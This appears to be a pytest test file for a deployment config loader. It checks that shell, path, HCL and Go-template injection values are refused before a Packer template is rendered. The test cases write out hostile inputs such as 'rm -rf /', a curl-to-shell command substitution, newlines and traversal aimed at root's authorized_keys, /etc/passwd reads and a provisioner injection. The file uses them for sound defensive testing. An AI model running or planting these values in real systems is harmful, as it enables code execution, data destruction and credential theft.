"""Hostile strings in a config are refused before anything is rendered or run.

Each case proves that a value which would be dangerous in a shell, a path or a Packer template
is stopped at validation with a message naming its place."""
from __future__ import annotations

import os
from pathlib import Path

import pytest

from vendor.config.loader import load_config
from vendor.config.source import SourceError

MINIMAL = (Path(__file__).parent / "minimal.yaml").read_text()

CASES = [
    ("shell metacharacters in a name", ("customer: shop", 'customer: "shop;rm -rf /"'), "customer"),
    ("command substitution in a package", ("    id: ami-0123456789abcdef0", '    id: ami-0123456789abcdef0\n  packages: ["nginx$(curl evil|sh)"]'),
     "image/packages/0"),
    ("newline smuggled into a file destination", ("    id: ami-0123456789abcdef0",
                                                  '    id: ami-0123456789abcdef0\n  files:\n    - source: minimal.yaml\n      destination: "/etc/x\\n0:/root/.ssh/authorized_keys"'),
     "image/files/0/destination"),
    ("path traversal in a file destination", ("    id: ami-0123456789abcdef0",
                                              "    id: ami-0123456789abcdef0\n  files:\n    - source: minimal.yaml\n      destination: /var/www/../../root/.ssh/authorized_keys"),
     "image/files/0/destination"),
    ("HCL interpolation in a health path", ("    path: /health", '    path: "/${file(\\"/etc/passwd\\")}"'), "routing/health_check/path"),
    ("Go template in a file destination", ("    id: ami-0123456789abcdef0",
                                           '    id: ami-0123456789abcdef0\n  files:\n    - source: minimal.yaml\n      destination: \'/etc/{{ build "SSHPrivateKey" }}\''),
     "image/files/0/destination"),
    ("Go template in a tag value", ("region: eu-west-1", "region: eu-west-1\ntags:\n  Team: '{{ pwd }}'"), "tags/Team"),
    ("quote breaking out of an HCL string in a tag", ("region: eu-west-1", 'region: eu-west-1\ntags:\n  Team: "a\\" } provisioner \\"shell\\" { inline = [\\"id"'), None),
]


@pytest.mark.parametrize("name,edit,path", CASES, ids=[c[0] for c in CASES])
def test_hostile_value(tmp_path, name, edit, path):
    """Shell metacharacters, command substitution, smuggled newlines, path traversal and HCL injection in config values are refused naming their path (free-text tags come out as one escaped HCL string)."""
    (tmp_path / "minimal.yaml").write_text(MINIMAL)
    config = tmp_path / "c.yaml"
    assert edit[0] in MINIMAL
    config.write_text(MINIMAL.replace(edit[0], edit[1], 1))
    if path is None:
        # tag values are free text: they must come out as one escaped HCL string, never as syntax
        from vendor.render.packer import render_packer
        import hcl2
        cf = load_config(config)
        template = next(o for o in render_packer(cf, "c.yaml") if o.path.endswith(".pkr.hcl") and "packer-" in o.path)
        parsed = hcl2.loads(template.content)
        assert parsed["locals"][0]["tags"]["Team"] == '"a\\" } provisioner \\"shell\\" { inline = [\\"id"'
        assert len(parsed["build"][0]["provisioner"]) == 3  # prepare, provision, agent: nothing injected
        return
    with pytest.raises(SourceError) as refused:
        load_config(config)
    assert [p.path for p in refused.value.problems] == [path]


URL_PATH_WORDS = ("is not a URL path starting with / of letters, digits and - . _ ~ ! & ( ) * + , ; = : @ % / ? "
                  "(no $, quotes or .. segments) (for example /health)")
HEALTH_PATHS = [
    ("command substitution", "/$(touch$IFS/tmp/x)"),
    ("backquotes", "/`id`"),
    ("a single quote", "/it's"),
    ("a parameter expansion", "/${HOME}"),
    (".. segments", "/../../../../tmp/x"),
    ("a .. segment before the query", "/a/..?x=1"),
]


@pytest.mark.parametrize("name,value", HEALTH_PATHS, ids=[c[0] for c in HEALTH_PATHS])
def test_health_path_that_would_reach_a_shell_is_refused(tmp_path, name, value):
    """A health check path with shell syntax or `..` segments is refused naming routing/health_check/path: it is rendered into the ValidateService script and into a file name."""
    config = tmp_path / "c.yaml"
    config.write_text(MINIMAL.replace("    path: /health", "    path: '" + value.replace("'", "''") + "'"))
    with pytest.raises(SourceError) as refused:
        load_config(config)
    assert [str(p) for p in refused.value.problems] == [
        f"{config}:18 routing/health_check/path: {value!r} {URL_PATH_WORDS}"]


def image_config(directory: Path, image: str) -> Path:
    """`minimal.yaml` in `directory` with `image` (YAML lines) added under image:."""
    directory.mkdir(parents=True, exist_ok=True)
    config = directory / "c.yaml"
    config.write_text(MINIMAL.replace("    id: ami-0123456789abcdef0", "    id: ami-0123456789abcdef0\n" + image))
    return config


OWN = "copy it into the config's directory and give its path relative to the config file"


def test_image_sources_outside_the_config_directory_are_refused(tmp_path):
    """Absolute and `../` paths, links leading out or in a loop, pipes and device files as image/scripts or image/files sources are refused naming the path and the fix (they would copy the machine's files into the image)."""
    (tmp_path / "secret").write_text("host secret\n")
    home = tmp_path / "cfg"
    home.mkdir()
    (home / "out.sh").symlink_to(tmp_path / "secret")
    (home / "zero").symlink_to("/dev/zero")
    os.mkfifo(home / "pipe.sh")
    (home / "tree").mkdir()
    (home / "tree" / "ok.txt").write_text("ok\n")
    (home / "tree" / "leak").symlink_to(tmp_path / "secret")
    (home / "loop.sh").symlink_to("loop.sh")
    config = image_config(home, "  scripts: [/etc/hostname, ../secret, out.sh, pipe.sh, tree, loop.sh]\n"
                                "  files:\n"
                                "    - {source: /dev/zero, destination: /var/fill}\n"
                                "    - {source: zero, destination: /var/fill2}\n"
                                "    - {source: tree, destination: /etc/tree}\n")
    with pytest.raises(SourceError) as refused:
        load_config(config)
    assert [str(p) for p in refused.value.problems] == [
        f"{config}:12 image/scripts/0: '/etc/hostname' is an absolute path: image sources come from the config's directory ({OWN})",
        f"{config}:12 image/scripts/1: '../secret' leaves the config's directory (..) ({OWN})",
        f"{config}:12 image/scripts/2: 'out.sh' leads to {tmp_path / 'secret'}, outside the config's directory ({OWN})",
        f"{config}:12 image/scripts/3: 'pipe.sh' is a named pipe, not a regular file (a shell script) (give a file the image should get)",
        f"{config}:12 image/scripts/4: 'tree' is a directory, not a regular file (a shell script) (give a file the image should get)",
        f"{config}:12 image/scripts/5: 'loop.sh' is a loop of symbolic links (point it at a file in the config's directory)",
        f"{config}:14 image/files/0/source: '/dev/zero' is an absolute path: image sources come from the config's directory ({OWN})",
        f"{config}:15 image/files/1/source: 'zero' leads to /dev/zero, outside the config's directory ({OWN})",
        f"{config}:16 image/files/2/source: 'tree/leak' leads to {tmp_path / 'secret'}, outside the config's directory ({OWN})",
    ]


def test_image_sources_inside_the_config_directory_are_accepted(tmp_path):
    """A script, a file, a directory of files and a link that stays inside the config's directory are accepted."""
    home = tmp_path / "cfg"
    (home / "shop" / "conf").mkdir(parents=True)
    (home / "shop" / "provision.sh").write_text("#!/bin/sh\n")
    (home / "shop" / "conf" / "a.ini").write_text("a\n")
    (home / "shop" / "conf" / "b.ini").symlink_to("a.ini")
    (home / "run.sh").symlink_to("shop/provision.sh")
    config = image_config(home, "  scripts: [shop/provision.sh, run.sh]\n"
                                "  files:\n"
                                "    - {source: shop/conf, destination: /etc/shop}\n")
    assert load_config(config).config.image.scripts == ["shop/provision.sh", "run.sh"]


def test_a_control_character_in_a_source_name_is_shown_escaped(tmp_path):
    """A newline or an escape in an image source name is shown escaped in the error, keeping it one line (and the terminal's own)."""
    config = image_config(tmp_path, '  scripts: ["x\\ny\\e[2J"]\n')
    with pytest.raises(SourceError) as refused:
        load_config(config)
    assert [str(p) for p in refused.value.problems] == [
        f"{config}:12 image/scripts/0: 'x\\ny\\x1b[2J' does not exist (looked in {tmp_path}/x\\ny\\x1b[2J) "
        "(give a path relative to the config file)"]


def test_go_template_actions_in_what_packer_reads_are_refused(tmp_path):
    """`{{ ... }}` in a script name, an upload's source or destination, or a tag value is refused: Packer 1.6.6 evaluates it while baking (a script `x{{ uuid }}.sh` was looked for under a random name)."""
    (tmp_path / "x{{ uuid }}.sh").write_text("#!/bin/sh\n")
    config = image_config(tmp_path, '  scripts: ["x{{ uuid }}.sh"]\n  files:\n'
                                    "    - {source: 'x{{ uuid }}.sh', destination: '/etc/{{ pwd }}'}\n")
    config.write_text(config.read_text().replace("region: eu-west-1", "region: eu-west-1\ntags:\n  Team: 'a {{ build \"x\" }}'"))
    with pytest.raises(SourceError) as refused:
        load_config(config)
    what = "'{{' would be run by Packer as a template (it evaluates {{ ... }} while baking) (remove the double braces)"
    assert [str(p) for p in refused.value.problems] == [
        f"{config}:5 tags/Team: {what}",
        f"{config}:14 image/scripts/0: {what}",
        f"{config}:16 image/files/0/destination: {what}",
        f"{config}:16 image/files/0/source: {what}",
    ]
